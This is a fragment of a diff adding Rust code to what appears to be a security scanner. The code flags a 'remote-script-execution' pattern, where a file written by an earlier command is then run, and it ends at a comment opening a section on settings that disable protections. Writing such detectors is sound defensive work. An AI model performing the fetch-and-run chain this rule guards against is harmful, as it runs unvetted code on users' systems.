+        && line
+            .outputs
+            .iter()
+            .any(|&(os, oe)| basename(&b[os..oe]).eq_ignore_ascii_case(base));
+    let direct = [&b"./"[..], b".\\", b"/", b"~/"]
+        .iter()
+        .any(|p| t.starts_with(p));
+    if ran && (runs || direct) {
+        out.hit("remote-script-execution", line.source.unwrap_or(s), e);
+        line.outputs.clear();
+    }
+}
 // ---------------------------------------------------------------------------------------------
 // Settings that switch protections off.
 
